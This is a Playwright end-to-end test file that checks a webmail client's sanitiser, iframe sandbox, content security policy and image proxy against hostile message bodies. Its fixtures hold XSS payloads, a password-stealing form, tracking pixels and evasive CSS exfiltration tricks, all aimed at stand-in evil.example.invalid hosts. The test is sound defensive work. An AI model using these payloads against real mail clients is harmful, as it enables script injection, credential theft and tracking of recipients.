import http from 'node:http';
import { expect, test } from '@playwright/test';
import { apiStatus, DEMO, signInAs } from './fixtures';

/** A message body that tries everything: scripts, handlers, javascript: links, forms, frames, trackers. */
const HOSTILE_BODY = `<style>@import url(https://evil.example.invalid/sheet.css);
.hero { background-image: url(https://tracker.example.invalid/sheet-bg.png); }</style>
<p class="hero">Quarterly numbers attached.</p>
<video src="https://tracker.example.invalid/clip.mp4" poster="https://tracker.example.invalid/poster.png"></video>
<script>window.parent.__pwned = 'script'; alert('script');</script>
<img src="https://tracker.example.invalid/pixel.gif" alt="Tracking pixel">
<img src="x" onerror="window.parent.__pwned = 'onerror'">
<a href="javascript:window.parent.__pwned = 'link'">Open the report</a>
<form action="https://evil.example.invalid/steal"><input name="password"></form>
<iframe src="https://evil.example.invalid/frame"></iframe>
<div style="background-image: url(https://tracker.example.invalid/bg.png)">Styled block</div>`;

test('a hostile message body is sanitized, sandboxed and loads no remote image until allowed', async ({
  page,
}) => {
  const remoteRequests: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('.example.invalid')) remoteRequests.push(request.url());
  });
  page.on('dialog', (dialog) => {
    throw new Error(`A dialog opened: ${dialog.message()}`);
  });

  await signInAs(page, DEMO.alice);
  // The real server's answer, with the newest message's body swapped for a hostile one.
  await page.route('**/api/threads/*/messages*', async (route) => {
    const response = await route.fetch();
    const json = await response.json();
    const last = json.data.at(-1);
    if (last) last.body = HOSTILE_BODY;
    await route.fulfill({ response, json });
  });
  await page.getByRole('main').getByRole('grid', { name: 'Inbox' }).getByRole('row').first().click();

  const message = page.getByRole('article').last();
  const frame = message.locator('iframe').contentFrame();
  await expect(frame.getByText('Quarterly numbers attached.')).toBeVisible();
  await expect(frame.getByText('Styled block')).toBeVisible();

  // Nothing ran, nothing dangerous survived.
  expect(await page.evaluate(() => (window as unknown as { __pwned?: string }).__pwned)).toBeUndefined();
  await expect(frame.locator('script, form, input, iframe, video, [onerror]')).toHaveCount(0);
  await expect(frame.locator('body style')).not.toContainText('example.invalid');
  // The javascript: URL is dropped: the anchor is left as plain text.
  await expect(frame.getByText('Open the report')).toBeVisible();
  await expect(frame.getByRole('link', { name: 'Open the report' })).toHaveCount(0);
  await expect(frame.locator('a[href^="javascript:"]')).toHaveCount(0);
  await expect(frame.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
    'content',
    /default-src 'none'/,
  );

  // Remote images wait for the user.
  await expect(frame.getByRole('img', { name: 'Tracking pixel' })).not.toHaveAttribute('src', /.+/);
  expect(remoteRequests).toEqual([]);
  await message.getByRole('button', { name: 'Show images' }).click();
  await expect(message.getByRole('button', { name: 'Show images' })).toHaveCount(0);
  await expect(frame.getByRole('img', { name: 'Tracking pixel' })).toHaveAttribute(
    'src',
    'https://tracker.example.invalid/pixel.gif',
  );
});

/**
 * The classes that once reached the outside or painted over the app through a hidden copy of the body
 * in the top page: CSS escapes, image-set(), odd URL forms, UNC paths, @import spellings, fonts,
 * filters, masks, SVG documents, custom properties and fixed overlays.
 */
const EVASIVE_BODY = `<style>
@\\69mport url(https://evil.example.invalid/escaped-import.css);
@import 'https://evil.example.invalid/plain-import.css';
@font-face { font-family: Leak; src: url(https://evil.example.invalid/font.woff2); }
.a { background: u\\72 l(https://evil.example.invalid/escaped-url.png); }
.b { background-image: image-set("https://evil.example.invalid/image-set.png" 1x); }
.c { background-image: url(https:\\\\evil.example.invalid/backslashes.png); }
.d { background-image: url("https:evil.example.invalid/no-slashes.png"); }
.e { background-image: url("ht\\9 tps://evil.example.invalid/tab-broken.png"); }
.f { background-image: url(\\\\\\\\evil.example.invalid\\share\\unc.png); }
.g { filter: url(https://evil.example.invalid/filter.svg#f); mask: url(https://evil.example.invalid/mask.svg); }
.h { --leak: url(https://evil.example.invalid/custom-property.png); background: var(--leak); }
.i { font-family: Leak; cursor: url(https://evil.example.invalid/cursor.cur), auto; }
.overlay { position: fixed; inset: 0; background: red; z-index: 2147483647; }
</style>
<p class="a b c d e f g h i">Evasive styles.</p>
<div class="overlay">Overlay</div>
<div style="background: u\\72 l(https://evil.example.invalid/inline-escaped.png)">Inline styled</div>
<div style="list-style-image: url(https://evil.example.invalid/list.png)">List</div>
<img src="https://pictures.example.invalid/photo.png" alt="Photo">`;

test('evasive styles load nothing, paint nothing over the app, and Show images loads no outside address', async ({
  page,
}) => {
  const remoteRequests: string[] = [];
  page.on('request', (request) => {
    if (request.url().includes('.example.invalid')) remoteRequests.push(request.url());
  });
  await signInAs(page, DEMO.alice);
  await page.route('**/api/threads/*/messages*', async (route) => {
    const response = await route.fetch();
    const json = await response.json();
    const last = json.data.at(-1);
    if (last) last.body = EVASIVE_BODY;
    await route.fulfill({ response, json });
  });
  await page.getByRole('main').getByRole('grid', { name: 'Inbox' }).getByRole('row').first().click();

  const message = page.getByRole('article').last();
  const frame = message.locator('iframe').contentFrame();
  await expect(frame.getByText('Evasive styles.')).toBeVisible();

  // The body exists only inside the frame: nothing of it in the app's document, no shadow copies.
  expect(
    await page.evaluate(() => {
      const all = [...document.querySelectorAll('*')];
      return {
        text: document.body.textContent?.includes('Evasive styles.') ?? false,
        shadows: all.filter((element) => element.shadowRoot).length,
      };
    }),
  ).toEqual({ text: false, shadows: 0 });
  const iframe = message.locator('iframe');
  await expect(iframe).toHaveAttribute(
    'sandbox',
    'allow-same-origin allow-popups allow-popups-to-escape-sandbox',
  );
  // Its height comes from its own layout: it shows the whole body without a scrollbar.
  const frameBox = await iframe.boundingBox();
  expect(frameBox?.height ?? 0).toBeGreaterThan(60);

  // The fixed overlay stays inside the frame: the app's own controls are still what is on top.
  const back = page.getByRole('button', { name: 'Back to inbox' });
  const box = await back.boundingBox();
  expect(box).not.toBeNull();
  if (box) {
    const onTop = await page.evaluate(
      ({ x, y }) => document.elementFromPoint(x, y)?.closest('button')?.getAttribute('aria-label') ?? null,
      { x: box.x + box.width / 2, y: box.y + box.height / 2 },
    );
    expect(onTop).toBe('Back to inbox');
  }

  // The cleaned style sheet keeps layout but nothing that loads.
  const css = await frame.locator('body style').first().textContent();
  expect(css).not.toMatch(/example\.invalid|@import|@font-face|--leak/i);

  // Before 'Show images', nothing remote at all: the frame has finished loading everything it will
  // load (its document is complete) and not one request left for an outside host.
  await expect
    .poll(() => frame.locator('body').evaluate((body) => body.ownerDocument.readyState))
    .toBe('complete');
  await expect.poll(() => page.evaluate(() => document.readyState)).toBe('complete');
  expect(remoteRequests).toEqual([]);

  // Show images: the photo's address stays as this body gives it (the server would have made it a proxy
  // address; this answer was swapped), and a remote address never loads: the policies refuse it.
  const blockedByPolicy = new Set<string>();
  page.on('requestfailed', (request) => {
    if (request.failure()?.errorText === 'csp') blockedByPolicy.add(request.url());
  });
  await message.getByRole('button', { name: 'Show images' }).click();
  await expect(frame.getByRole('img', { name: 'Photo' })).toHaveAttribute(
    'src',
    'https://pictures.example.invalid/photo.png',
  );
  await expect.poll(() => blockedByPolicy.has('https://pictures.example.invalid/photo.png')).toBe(true);
  // Not one outside address was fetched: each the browser tried, the policies stopped. (Not 'networkidle':
  // the app's live stream keeps a request open for as long as the page lives.)
  await expect.poll(() => remoteRequests.filter((url) => !blockedByPolicy.has(url))).toEqual([]);
});

/** The picture host of the next journey: on loopback, one port the server's image proxy may fetch (playwright.config). */
const pictureHostPort = Number(process.env.E2E_PORT ?? 3100) + 3;
// A 4x4 PNG.
const PNG = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAQAAAAECAIAAAAmkwkpAAAAEklEQVR4nGP4z8CAB+GTG8HSALfKY52fTcuYAAAAAElFTkSuQmCC',
  'base64',
);

test('after Show images, a mail’s pictures load through /image-proxy; the picture host never hears from the browser, and a direct address is blocked', async ({
  page,
}) => {
  // Who asked the picture host, and as what (the proxy sends no user agent, no cookie, no referrer).
  const hostLog: { path: string; agent: string | undefined; referer: string | undefined }[] = [];
  const pictureHost = http.createServer((request, response) => {
    hostLog.push({
      path: request.url ?? '',
      agent: request.headers['user-agent'],
      referer: request.headers.referer,
    });
    response.writeHead(200, { 'content-type': 'image/png' }).end(PNG);
  });
  await new Promise<void>((resolve) => pictureHost.listen(pictureHostPort, '127.0.0.1', resolve));
  const origin = `http://127.0.0.1:${pictureHostPort}`;
  const browserAsked: string[] = [];
  page.on('request', (request) => browserAsked.push(request.url()));

  try {
    await signInAs(page, DEMO.alice);
    // A real message with remote pictures, stored by the server, which answers its body itself.
    const threadId = `thr_e2e_images_${Date.now().toString(36)}`;
    const status = await apiStatus(page, 'POST', '/threads', {
      thread_id: threadId,
      message_id: `${threadId}_m`,
      message_body: `<p>Photos from the site visit.</p>
<img src="${origin}/site-photo.png" alt="Site photo" width="40" height="40">
<div style="background-image: url(${origin}/banner.png); width: 40px; height: 40px">Banner</div>`,
      thread_title: 'Site visit photos',
      internal_recipients: [{ user_id: 'usr_bob', type: 'to' }],
    });
    expect(status).toBe(201);
    await page.goto(`/threads/${encodeURIComponent(threadId)}`);

    try {
      const message = page.getByRole('article').last();
      const iframe = message.locator('iframe');
      const frame = iframe.contentFrame();
      const photo = frame.getByRole('img', { name: 'Site photo' });
      await expect(frame.getByText('Photos from the site visit.')).toBeVisible();
      // Held back: no address to load, and nothing asked.
      await expect(photo).not.toHaveAttribute('src', /.+/);
      expect(hostLog).toEqual([]);

      await message.getByRole('button', { name: 'Show images' }).click();
      await expect(message.getByRole('button', { name: 'Show images' })).toHaveCount(0);
      await expect(photo).toHaveAttribute(
        'src',
        new RegExp(
          `^/image-proxy\\?url=${encodeURIComponent(`${origin}/site-photo.png`).replace(/[.%]/g, '\\$&')}&sig=`,
        ),
      );
      // The picture is painted: it came through the proxy.
      await expect
        .poll(() => photo.evaluate((img: HTMLImageElement) => (img.complete ? img.naturalWidth : 0)))
        .toBe(4);
      await expect
        .poll(() => hostLog.map((entry) => entry.path).sort())
        .toEqual(['/banner.png', '/site-photo.png']);
      // The host heard only from the server: no browser agent, no referrer; the browser asked only /image-proxy.
      expect(hostLog.every((entry) => entry.agent === undefined && entry.referer === undefined)).toBe(true);
      expect(browserAsked.filter((url) => url.startsWith(origin))).toEqual([]);
      expect(
        browserAsked.filter((url) => new URL(url).pathname === '/image-proxy' && url.includes('site-photo')),
      ).toHaveLength(1);

      // A direct address is refused by the policies, in the frame (images only from the proxy) and in the app.
      const blockedIn = (target: 'frame' | 'app') =>
        iframe.evaluate(
          (element: HTMLIFrameElement, { src, target }) =>
            new Promise<string>((resolve) => {
              const doc = target === 'frame' ? (element.contentDocument as Document) : element.ownerDocument;
              doc.addEventListener(
                'securitypolicyviolation',
                (event) => resolve(`${event.effectiveDirective} ${event.blockedURI}`),
                { once: true },
              );
              const img = doc.createElement('img');
              img.alt = '';
              img.hidden = true;
              img.src = src;
              doc.body.append(img);
            }),
          { src: `${origin}/direct-${target}.png`, target },
        );
      expect(await blockedIn('frame')).toBe(`img-src ${origin}/direct-frame.png`);
      expect(await blockedIn('app')).toBe(`img-src ${origin}/direct-app.png`);
      expect(hostLog.map((entry) => entry.path).filter((path) => path.startsWith('/direct'))).toEqual([]);
    } finally {
      // Later journeys read alice's inbox from the top: the thread goes.
      expect(await apiStatus(page, 'PATCH', '/threads:delete', { thread_ids: [threadId] })).toBeLessThan(300);
    }
  } finally {
    await new Promise<void>((resolve) => pictureHost.close(() => resolve()));
  }
});
